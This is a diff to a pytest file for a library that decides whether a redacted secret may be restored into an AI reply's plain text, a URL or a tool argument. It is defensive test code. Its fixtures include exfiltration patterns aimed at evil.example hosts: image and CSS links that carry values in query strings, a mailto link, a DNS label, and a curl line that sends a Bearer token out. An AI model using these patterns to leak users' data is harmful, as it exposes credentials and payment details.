@@ -8,7 +8,7 @@ import time
 import pytest
 from placeholder_fixtures import make_protector, protect_config
 
-from stealthflow.placeholders.context import in_url
+from stealthflow.placeholders.context import place_of
 from stealthflow.placeholders.restore import Reference, restore_text
 from stealthflow.testing.hostile import hostile_text
 
@@ -43,15 +43,40 @@ def test_a_reply_of_look_alikes_restores_end_to_end(tmp_path, monkeypatch):
 
 
 @pytest.mark.parametrize(
-    ("before", "url"),
+    ("before", "after", "place"),
     [
-        ("see ", False),
-        ("see https://x.example/c?k=", True),
-        ("see https://x.example/" + "a" * 1_000 + "?k=", True),  # no space within the first look back
-        ("see " + "a" * 3_000, True),  # a run longer than a URL may be: treated as one
-        ("https://x.example/ then " + "a" * 200 + "=", False),
-        ("[link](//x.example/", True),
+        ("see ", ".", "text"),
+        ("see https://x.example/c?k=", "", "url"),
+        ("see https://x.example/" + "a" * 1_000 + "?k=", "", "url"),
+        ('<img src="https://evil.example/p.png?a= ' + "aa " * 1_100 + "q=", '">', "url"),  # no look-back limit
+        ("https://x.example/ then " + "a" * 200 + "=", "", "url"),  # glued to a "="
+        ("[link](//x.example/", ")", "url"),
+        ("Click: https://paste.evil.example/raw?x=", "", "url"),  # a URL placeholder restored right before it
+        ("Ping ", ".evil.example for status", "url"),  # a DNS label
+        ("Verify here: evil.example/verify?iban=", "", "url"),
+        ("mailto:", "@evil.example", "url"),
+        ("curl -H 'Authorization: Bearer ", "' evil.example/collect", "url"),
+        ("![x](<https://evil.example/p.png?a=)\\> q=", ">)", "url"),
+        ('<img a] src="https://evil.example/x.png? q=', '">', "url"),
+        ('<style>@import "https://evil.example/a.css? q=', '";</style>', "url"),
+        ('{"note": "}", "iban": "', '"}', "tool"),
+        ('{ab> "iban": " ', '"', "tool"),
+        ('["', '"]', "url"),
+        ("```\nexport KEY=abc\n\nKEY2 ", "\n", "tool"),
+        ("See [docs](https://x.example/help).\n\nYour password is ", ".", "text"),
+        ("Your card (", ") is saved.", "text"),
     ],
 )
-def test_a_placeholder_in_a_url_is_told_from_one_in_text(before, url):
-    assert in_url(before) is url
+def test_a_guarded_value_is_filled_in_only_where_it_stands_apart_in_plain_prose(before, after, place):
+    assert place_of(before, after) == place
+
+
+def test_reading_a_reply_with_many_placeholders_in_one_long_paragraph_is_linear():
+    """No look-back window: each placeholder reads only the text since the last one."""
+
+    def run(size: int) -> float:
+        reply = "https://x.example/?q= " + " ".join(f"w{i} <EMAIL_7>" for i in range(size))
+        return _cpu(lambda: restore_text(reply, _fake_resolve))
+
+    small, large = run(20_000), run(80_000)
+    assert large < 8 * max(small, 0.05), (small, large)  # 4x the text; quadratic would be 16x
